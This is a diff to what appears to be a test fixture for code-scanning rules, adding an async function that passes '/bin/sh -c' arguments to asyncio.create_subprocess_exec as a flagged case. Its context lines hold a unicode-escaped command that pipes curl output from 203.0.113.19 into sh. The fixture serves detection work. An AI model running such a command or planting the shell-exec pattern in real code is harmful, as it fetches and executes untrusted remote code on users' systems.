@@ -965,3 +965,12 @@ _mirror_idx = "http://192.0.2.77:8080/simple-wheels"
 _json_tasks = '{"a": ["\\u0073\\u0068", "-c", "\\u0063url -s http://203.0.113.19/j | \\u0073h"]}'
 # ok: shell-payload-string
 _json_plain = '{"greeting": "caf\\u00e9", "path": "C:\\\\tmp\\\\out"}'
+# an argument list spread into an exec-style call
+async def _spread_hook(_sp_cmd):
+    _sp_argv = ["/bin/sh", "-c", _sp_cmd]
+    # ruleid: shell-in-exec-args-spread, asyncio-subprocess-exec
+    await asyncio.create_subprocess_exec(*_sp_argv)
+    _sp_ok = ["/usr/bin/git", "status"]
+    # ok: shell-in-exec-args-spread
+    # ruleid: asyncio-subprocess-exec
+    await asyncio.create_subprocess_exec(*_sp_ok)
